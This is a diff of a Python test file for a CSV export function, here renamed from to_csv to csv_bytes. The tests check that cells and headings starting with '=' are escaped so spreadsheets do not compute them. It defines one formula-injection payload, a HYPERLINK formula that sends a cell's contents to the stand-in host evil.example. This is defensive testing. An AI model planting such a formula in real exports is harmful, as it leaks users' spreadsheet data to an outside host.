@@ -5,7 +5,7 @@ import io
 import pandas as pd
 import pytest
 
-from skerry.analysis.frame import to_csv
+from skerry.analysis.frame import csv_bytes
 
 ATTACK = '=HYPERLINK("http://evil.example?"&A1)'
 
@@ -16,15 +16,15 @@ ATTACK = '=HYPERLINK("http://evil.example?"&A1)'
 def test_a_text_is_no_formula(text):
     """A plug-in's name or a label may be anything; a spreadsheet would compute it."""
     frame = pd.DataFrame({"name": [text, "two islands"], "value": [0.5, -0.5]})
-    read = pd.read_csv(io.BytesIO(to_csv(frame)))
+    read = pd.read_csv(io.BytesIO(csv_bytes(frame)))
     told = text.replace("\r", "\n")
     assert list(read["name"]) == [f"'{told}", "two islands"]
 
 
 def test_numbers_stay_numbers():
     frame = pd.DataFrame({"a": [-1, 2], "b": [-1e-300, float("nan")], "c": ["-0.5", "x"]})
-    assert to_csv(frame) == b"a,b,c\n-1,-1e-300,-0.5\n2,,x\n"
+    assert csv_bytes(frame) == b"a,b,c\n-1,-1e-300,-0.5\n2,,x\n"
 
 
 def test_a_heading_is_no_formula_either():
-    assert to_csv(pd.DataFrame({"=1+1": [True]})) == b"'=1+1\nTrue\n"
+    assert csv_bytes(pd.DataFrame({"=1+1": [True]})) == b"'=1+1\nTrue\n"
